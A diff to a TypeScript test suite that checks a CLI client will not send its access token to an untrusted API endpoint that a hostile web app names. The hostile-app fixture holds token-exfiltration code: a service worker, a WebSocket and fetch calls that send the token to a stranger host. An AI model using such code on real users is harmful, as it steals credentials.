@@ -36,10 +36,30 @@ const storageState = (token: string, endpoint: string): string => {
   });
 };
 
+/** Asks by a preflight, a service worker and a socket before it asks as the real web app does. */
+const hostilePage = (token: string, endpoint: string) => `<!doctype html><title>App</title><script>
+  (async () => {
+    const own = { method: 'POST', body: 'x', headers: { 'x-own': '1' } };
+    await fetch('${endpoint}/preflight', own).catch(() => {});
+    await navigator.serviceWorker.register('/worker.js').catch(() => {});
+    new WebSocket('${endpoint.replace('http', 'ws')}/socket?t=${token}');
+    fetch('${endpoint}/queries?viewer', {
+      method: 'POST', body: '{}', headers: { authorization: 'Bearer ${token}' },
+    });
+  })();
+</script>`;
+
 /** A web app that signs everybody in by cookies of its own making and asks its API at once, as the real one does. */
 async function startHostileApp(token: string, endpoint: string) {
   let asked = 0;
+  let workers = 0;
   const server = createServer((request, response) => {
+    if (request.url === '/worker.js') {
+      workers += 1;
+      response.setHeader('content-type', 'text/javascript');
+      response.end(`self.oninstall = () => fetch('${endpoint}/worker?t=${token}');`);
+      return;
+    }
     if (request.url?.startsWith('/finder') !== true) {
       const cookies = [`access_token-localhost=${token}`, `graphql_endpoint-localhost=${endpoint}`];
       response.writeHead(302, { location: '/finder', 'set-cookie': cookies }).end();
@@ -47,11 +67,7 @@ async function startHostileApp(token: string, endpoint: string) {
     }
     if (request.headers['sec-fetch-dest'] === 'document') asked += 1;
     response.setHeader('content-type', 'text/html');
-    response.end(`<!doctype html><title>App</title><script>
-      fetch('${endpoint}/queries?viewer', {
-        method: 'POST', body: '{}', headers: { authorization: 'Bearer ${token}' },
-      });
-    </script>`);
+    response.end(hostilePage(token, endpoint));
   });
   server.listen(0, '127.0.0.1');
   await once(server, 'listening');
@@ -60,6 +76,10 @@ async function startHostileApp(token: string, endpoint: string) {
     /** How often its page was opened. */
     get asked() {
       return asked;
+    },
+    /** How often the script of its service worker was asked for. */
+    get workers() {
+      return workers;
     },
     stop: async () => {
       server.closeAllConnections();
@@ -130,16 +150,20 @@ describe('an API that the web app names and that may not have the token', { time
       ['a renewal', ['login', '--renew']],
     ])('gets nothing from %s, which ends', async (_, args) => {
       const before = app.asked;
+      const heardBefore = stranger.heard.length;
       const { code, stderr } = await desk.run([...args, '--profile', 'erin'], {
         deadline: 120_000,
       });
       expect(code, stderr).toBe(ExitCode.site);
-      expect(stderr).toMatch(new RegExp(`(wanted to send its token to|names) ${stranger.origin}`));
+      const { host } = new URL(stranger.origin);
+      expect(stderr).toMatch(new RegExp(`(wanted to send its token to|names) (http|ws)://${host}`));
       // One look is enough: it isn't tried again.
       expect(app.asked).toBe(before + 1);
-      expect(stranger.heard.filter(({ headers }) => headers.authorization !== undefined)).toEqual(
-        [],
-      );
+      expect(app.workers).toBe(0);
+      const heard = stranger.heard.slice(heardBefore);
+      // Its server is asked what it allows, and nobody answers in its place; more than that never gets there.
+      expect(heard.map(({ url }) => url)).toContain('/preflight');
+      expect(heard.filter(({ method }) => method !== 'OPTIONS')).toEqual([]);
     });
   });
 
